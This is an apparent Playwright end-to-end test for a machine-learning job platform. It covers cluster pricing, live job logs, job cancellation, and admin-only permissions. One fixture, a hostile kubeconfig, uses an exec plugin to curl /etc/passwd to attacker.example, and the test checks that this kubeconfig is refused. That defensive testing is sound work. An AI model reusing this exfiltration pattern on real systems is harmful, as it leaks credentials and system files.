import { expect, test, type Page } from '@playwright/test';
import { createProject, createTeam, graphqlInPage, invite, orgSlugOf, screenshot, signUp, signUpAndAccept, stamp, uniqueEmail } from './helpers';

/**
 * As an admin I price the built-in local cluster, run a small training job from
 * the form and watch its log stream in while it runs, see it succeed with a cost,
 * cancel a long job from its page, and see a kubeconfig that would run a command
 * on Gantry's servers refused with a message that says which field and why.
 */

/** Prints one line per epoch; slow enough that the page shows it running. */
const SMALL_JOB = `python3 -c "import time;[print(f'epoch {i}/12 loss={1/i:.4f}', flush=True) or time.sleep(1) for i in range(1, 13)]"`;
const LONG_JOB = `python3 -c "import time;[print(f'step {i}', flush=True) or time.sleep(1) for i in range(600)]"`;

const HOSTILE_KUBECONFIG = `apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://203.0.113.10:6443
users:
- name: admin
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: sh
      args: ["-c", "curl -d @/etc/passwd https://attacker.example"]
contexts:
- name: prod
  context: {cluster: prod, user: admin}
current-context: prod
`;

async function submitJob(page: Page, org: string, job: { name: string; command: string; params?: [string, string][] }, shot?: string) {
  await page.goto(`/o/${org}/jobs`);
  await page.getByRole('link', { name: 'Submit job' }).first().click();
  await expect(page.getByRole('heading', { name: 'Submit a training job' })).toBeVisible();
  await page.getByLabel('Project').selectOption({ label: 'Churn · Retention' });
  await expect(page.getByLabel('Cluster')).toHaveValue(/.+/);
  await page.getByRole('textbox', { name: /^Name/ }).fill(job.name);
  await page.getByLabel('Command').fill(job.command);
  await expect(page.getByTestId('command-parts')).toContainText('3 parts');
  for (const [i, [key, value]] of (job.params ?? []).entries()) {
    await page.getByRole('button', { name: 'Add hyperparameter' }).click();
    await page.getByLabel(`Hyperparameter ${i + 1}`, { exact: true }).fill(key);
    await page.getByLabel(`Hyperparameter ${i + 1} value`).fill(value);
  }
  if (shot) await screenshot(page, shot);
  await page.getByRole('button', { name: 'Submit job' }).click();
  await expect(page).toHaveURL(/\/jobs\/job_[a-z0-9]+$/, { timeout: 30_000 });
  await expect(page.getByTestId('job-name')).toHaveText(job.name);
  return page.url().split('/').pop()!;
}

test('price the local cluster, follow a job’s live log to its cost, cancel a job, refuse a hostile kubeconfig', async ({ page, browser }) => {
  test.setTimeout(300_000);
  await signUp(page, { name: 'Margaret Admin', email: uniqueEmail('compute'), organizationName: `Compute Co ${stamp()}` });
  const org = orgSlugOf(page);
  await createTeam(page, org, 'Retention');
  await createProject(page, 'Churn', 'Who is about to leave');

  await test.step('the local cluster is always there', async () => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Clusters' }).click();
    await expect(page.getByRole('heading', { name: 'Clusters', level: 1 })).toBeVisible();
    const local = page.locator('[data-testid="cluster-row"][data-cluster-name="local"]');
    await expect(local).toBeVisible();
    await expect(local.getByTestId('cluster-status')).toHaveText('Ready');
    await local.getByRole('link', { name: /local/ }).click();
    await expect(page.getByTestId('cluster-name')).toHaveText('local');
  });

  await test.step('edit the local cluster’s prices in dollars, stored as exact micro-dollars', async () => {
    const editor = page.getByTestId('price-editor');
    await editor.getByLabel('CPU core-hour').fill('0.36');
    await editor.getByLabel('Memory GiB-hour').fill('0.0450001');
    await editor.getByRole('button', { name: 'Add GPU type' }).click();
    // The form checks the GPU type with the server's rule (rules/gpu-types.ts): a node label value.
    await editor.getByLabel('GPU type 1').fill('nvidia t4');
    await editor.getByLabel('GPU-hour price 1').fill('0.35');
    await editor.getByRole('button', { name: 'Save prices' }).click();
    await expect(editor.getByText('GPU type must be a Kubernetes label value (letters, digits, ".", "_", "-")')).toBeVisible();
    await editor.getByLabel('GPU type 1').fill('nvidia-t4');
    await editor.getByRole('button', { name: 'Save prices' }).click();
    await expect(editor.getByText('At most 6 decimals (prices are whole micro-dollars)')).toBeVisible();
    await editor.getByLabel('Memory GiB-hour').fill('0.045001');
    await editor.getByRole('button', { name: 'Save prices' }).click();
    await expect(page.getByTestId('toast').filter({ hasText: 'Prices saved' })).toBeVisible();

    await page.reload();
    await expect(page.getByTestId('price-editor').getByLabel('CPU core-hour')).toHaveValue('0.36');
    await expect(page.getByTestId('price-editor').getByLabel('Memory GiB-hour')).toHaveValue('0.045001');
    await expect(page.getByTestId('price-editor').getByLabel('GPU type 1')).toHaveValue('nvidia-t4');
    await screenshot(page, '44-cluster-prices');
    const orgId = (await page.locator('[data-org-id]').getAttribute('data-org-id'))!;
    const stored = await graphqlInPage(page, orgId, '{ cluster(id: "local") { prices { cpuCoreHourMicros memoryGibHourMicros gpu { gpuType hourMicros } } } }');
    expect(stored.data).toEqual({ cluster: { prices: { cpuCoreHourMicros: '360000', memoryGibHourMicros: '45001', gpu: [{ gpuType: 'nvidia-t4', hourMicros: '350000' }] } } });

    await page.goto(`/o/${org}/clusters`);
    await expect(page.locator('[data-testid="cluster-row"][data-cluster-name="local"]').getByTestId('cluster-prices')).toContainText('$0.36');
  });

  await test.step('submit a small job and watch its log arrive while it runs, then its cost', async () => {
    await submitJob(page, org, { name: 'churn-small', command: SMALL_JOB, params: [['learning_rate', '0.05']] }, '45-submit-job');
    const logs = page.getByTestId('job-logs');
    await expect(logs).toContainText('epoch 1/12', { timeout: 60_000 });
    // Output is on the page while the job is still running, and more keeps coming.
    await expect(page.getByTestId('job-status')).toHaveAttribute('data-status', 'running');
    await expect(logs).not.toContainText('epoch 12/12');
    await expect(logs).toContainText('epoch 4/12');
    await expect(page.getByTestId('job-status')).toHaveAttribute('data-status', 'succeeded', { timeout: 90_000 });
    await expect(logs).toContainText('epoch 12/12 loss=0.0833');
    await expect(page.getByTestId('logs-complete')).toBeVisible({ timeout: 30_000 });
    await expect(page.getByTestId('job-cost')).toHaveText(/^\$0\.\d{4}$/);
    await expect(page.getByTestId('job-runtime')).not.toHaveText('—');
    const timeline = page.getByTestId('job-event');
    await expect(timeline.first()).toHaveAttribute('data-status', 'queued');
    await expect(timeline.last()).toHaveAttribute('data-status', 'succeeded');
    await expect(page.locator('[data-testid="job-event"][data-status="running"]').first()).toBeVisible();
    await expect(page.getByTestId('job-hyperparameters')).toContainText('learning_rate');
    await expect(page.getByTestId('job-run-link')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Cancel job' })).toHaveCount(0);
  });

  await test.step('submit a long job and cancel it from its page', async () => {
    await submitJob(page, org, { name: 'churn-long', command: LONG_JOB });
    await expect(page.getByTestId('job-logs')).toContainText('step 2', { timeout: 60_000 });
    await page.getByRole('button', { name: 'Cancel job' }).click();
    const dialog = page.getByRole('alertdialog');
    await expect(dialog).toContainText('Cancel “churn-long”?');
    await dialog.getByLabel(/Reason/).fill('wrong learning rate');
    await dialog.getByRole('button', { name: 'Cancel job' }).click();
    await expect(page.getByTestId('job-status')).toHaveAttribute('data-status', 'cancelled', { timeout: 60_000 });
    await expect(page.locator('[data-testid="job-event"][data-status="cancelled"]')).toHaveCount(1);
    await expect(page.getByRole('button', { name: 'Cancel job' })).toHaveCount(0);

    await page.getByRole('link', { name: 'Jobs', exact: true }).first().click();
    await expect(page.getByTestId('job-row')).toHaveCount(2);
    await page.getByRole('button', { name: 'Cancelled', exact: true }).click();
    await expect(page.getByTestId('job-row')).toHaveCount(1);
    await expect(page.getByTestId('job-row')).toContainText('churn-long');
    await expect(page.getByTestId('job-row').getByTestId('job-status')).toHaveText('Cancelled');
    await page.getByRole('button', { name: 'Succeeded', exact: true }).click();
    await expect(page.getByTestId('job-row')).toHaveCount(1);
    await expect(page.getByTestId('job-row')).toContainText('churn-small');
    await expect(page.getByTestId('job-row').getByTestId('job-cost')).toHaveText(/^\$0\.\d{4}$/);
  });

  await test.step('a kubeconfig with an exec plugin is refused, naming the field', async () => {
    await page.goto(`/o/${org}/clusters`);
    await page.getByRole('link', { name: 'Connect cluster' }).click();
    await page.getByLabel('Name', { exact: true }).fill('prod');
    await page.getByLabel('Kubeconfig').fill(HOSTILE_KUBECONFIG);
    await page.getByRole('button', { name: 'Check connection' }).click();
    const refused = page.getByTestId('kubeconfig-refused');
    await expect(refused).toContainText('This kubeconfig was refused');
    await expect(refused.getByTestId('kubeconfig-refused-field')).toHaveText('users[0].user.exec');
    await expect(refused.getByTestId('kubeconfig-refused-message')).toContainText('Exec credential plugins would run a command on Gantry');
    await expect(page.getByRole('button', { name: 'Connect', exact: true })).toBeDisabled();
    await expect(page.getByTestId('cluster-check')).toHaveCount(0);

    // Connecting straight away is refused the same way: nothing is stored.
    const orgId = (await page.locator('[data-org-id]').getAttribute('data-org-id'))!;
    const direct = await graphqlInPage(
      page,
      orgId,
      `mutation { connectCluster(input: { name: "prod", namespace: "gantry-jobs", kubeconfig: ${JSON.stringify(HOSTILE_KUBECONFIG)} }) { id } }`,
    );
    expect(direct.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const clusters = await graphqlInPage(page, orgId, '{ clusters { name } }');
    expect(clusters.data).toEqual({ clusters: [{ name: 'local' }] });
  });

  await test.step('a member reads the prices but cannot change them or connect clusters', async () => {
    const invitePath = await invite(page, org, uniqueEmail('member'), 'member');
    const context = await browser.newContext();
    const member = await context.newPage();
    await signUpAndAccept(member, invitePath, 'Max Member');
    await member.goto(`/o/${org}/clusters`);
    await expect(member.getByTestId('cluster-row')).toHaveCount(1);
    await expect(member.getByRole('link', { name: 'Connect cluster' })).toHaveCount(0);
    await member.getByTestId('cluster-row').getByRole('link').first().click();
    await expect(member.getByRole('cell', { name: '$0.36' })).toBeVisible();
    await expect(member.getByTestId('price-editor')).toHaveCount(0);
    await member.goto(`/o/${org}/clusters/connect`);
    await expect(member.getByText('Only admins connect clusters')).toBeVisible();
    await context.close();
  });
});
